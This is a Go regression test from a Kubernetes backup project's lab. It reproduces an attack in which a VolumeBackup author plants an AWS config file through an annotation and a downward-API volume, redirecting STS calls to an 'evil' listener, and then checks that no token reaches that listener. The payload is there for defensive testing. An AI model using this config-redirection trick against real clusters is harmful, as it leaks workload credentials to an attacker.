package lab

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fedbr/fedbr/internal/lab/awsdouble"
	"github.com/fedbr/fedbr/internal/lab/env"
	"github.com/fedbr/fedbr/internal/lab/kubelet"
)

// awsConfigAnnotation carries the attacker's AWS config file to the step pods (an annotation the
// agents' policy lets through by name in this lab: redirectionPolicy).
const awsConfigAnnotation = "tenant.example.com/aws-config"

// redirectionPolicy is what an operator would have to allow for issue 38's attack to reach a step
// pod at all: HOME, downward-API volumes and the annotation. The test allows them, so that what
// stands between the attack and the steps' role is the steps' AWS loader alone.
var redirectionPolicy = map[string]any{
	"env":            []any{"HOME"},
	"volumeTypes":    []any{"downwardAPI"},
	"podAnnotations": []any{"iam.amazonaws.com/role", "eks.amazonaws.com/role-arn", awsConfigAnnotation},
}

// testAWSConfigRedirection is issue 38's attack end to end: a VolumeBackup whose author sets the
// steps' HOME and writes an annotation into $HOME/.aws/config through a downward-API volume, the
// file naming the attacker's STS (a listener this test owns) for the web identity exchange. The
// steps authenticate with IRSA (the lab's step role on fedbr-br, env.InstallOptions
// StepRoleNamespaces): the SDK's default loader would send the pod's token to that file's
// endpoint (internal/cloud/aws TestSharedConfigFilesAreNeverRead shows it with the same file).
// The backup must complete with the attacker's listener receiving nothing, the file delivered to
// the step pods, and the role's credentials obtained from the AWS double's STS at its real host
// name.
func testAWSConfigRedirection(t *testing.T, ctx context.Context, k kubectl, l *env.Lab, source, bucket string) {
	var mu sync.Mutex
	var captured []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		mu.Lock()
		captured = append(captured, r.Method+" "+r.URL.String()+" Action="+r.Form.Get("Action"))
		mu.Unlock()
		http.Error(w, "<ErrorResponse><Error><Code>AccessDenied</Code></Error></ErrorResponse>", http.StatusForbidden)
	}))
	defer evil.Close()
	config := "[default]\nservices = attacker\n\n[services attacker]\nsts =\n  endpoint_url = " + evil.URL + "\n"
	before := awsStats(ctx, t, l)
	const name = "redirect"
	var clusters []string
	for _, d := range l.DataPlanes {
		clusters = append(clusters, fmt.Sprintf(`    - {k8sClusterName: %s, tcName: basic, tcNamespace: %s}`, d.Cluster, source))
	}
	quoted, _ := json.Marshal(config)
	backup := fmt.Sprintf(`apiVersion: federation.pingcap.com/v1alpha1
kind: VolumeBackup
metadata:
  name: %[1]s
  namespace: %[2]s
  annotations:
    %[3]s: %[4]s
spec:
  clusters:
%[5]s
  template:
    s3: {provider: aws, region: %[6]s, bucket: %[7]s, prefix: %[2]s/%[1]s}
    cleanPolicy: Delete
    env:
      - {name: HOME, value: "$(FEDBR_LAB_ROOT)/h"}
    additionalVolumes:
      - name: aws-config
        downwardAPI:
          items:
            - {path: config, fieldRef: {fieldPath: "metadata.annotations['%[3]s']"}}
    additionalVolumeMounts:
      - {name: aws-config, mountPath: /h/.aws}
`, name, source, awsConfigAnnotation, quoted, strings.Join(clusters, "\n"), l.AWS.Region, bucket)
	k.must(ctx, l.Control, []byte(backup), "apply", "-f", "-")
	k.waitComplete(ctx, l.Control, source, "volumebackup", name, 5*time.Minute)

	// The attack reached the steps: each plane's step pods of this backup had the file at
	// $HOME/.aws/config (the lab's container roots, internal/lab/kubelet doc.go).
	delivered := 0
	var seen []string
	for _, d := range l.DataPlanes {
		for _, n := range d.Nodes {
			pods, _ := filepath.Glob(filepath.Join(n.Dir, "pods", source+"_fed-"+name+"-*"))
			for _, p := range pods {
				seen = append(seen, filepath.Base(p))
			}
			files, _ := filepath.Glob(filepath.Join(n.Dir, "pods", source+"_fed-"+name+"-*", "containers", "*", "root", "h", ".aws", "config"))
			for _, f := range files {
				b, err := os.ReadFile(f)
				if err == nil && string(b) == config {
					delivered++
				} else {
					seen = append(seen, fmt.Sprintf("%s: %q %v", f, b, err))
				}
			}
		}
	}
	if delivered < len(l.DataPlanes) {
		t.Fatalf("the AWS config reached %d step containers, want at least one per plane (%d): the test would judge nothing; step pods and files seen: %q",
			delivered, len(l.DataPlanes), seen)
	}
	mu.Lock()
	got := captured
	mu.Unlock()
	if len(got) > 0 {
		t.Fatalf("the attacker's STS received %d requests: %q", len(got), got)
	}
	after := awsStats(ctx, t, l)
	exchanges := after.Calls["AssumeRoleWithWebIdentity"] - before.Calls["AssumeRoleWithWebIdentity"]
	if exchanges < len(l.DataPlanes) {
		t.Fatalf("%d web identity exchanges at the AWS double's STS during the backup, want at least one per plane's step (%d): the steps did not authenticate with IRSA", exchanges, len(l.DataPlanes))
	}
	if n := after.Errors["AccessDenied"] + after.Errors["InvalidIdentityToken"] + after.Errors["ExpiredTokenException"] -
		before.Errors["AccessDenied"] - before.Errors["InvalidIdentityToken"] - before.Errors["ExpiredTokenException"]; n > 0 {
		t.Errorf("%d web identity exchanges refused during the backup", n)
	}
	t.Logf("AWS config redirection: the file reached %d step containers, the attacker's STS received nothing, %d web identity exchanges at the double's STS", delivered, exchanges)
	k.must(ctx, l.Control, nil, "delete", "volumebackup", name, "-n", source, "--timeout=3m")
}

// awsStats reads the AWS double's counters.
func awsStats(ctx context.Context, t *testing.T, l *env.Lab) awsdouble.Stats {
	t.Helper()
	st, err := kubelet.AWSAdmin{Endpoint: l.AWS.Endpoint}.Stats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return st
}
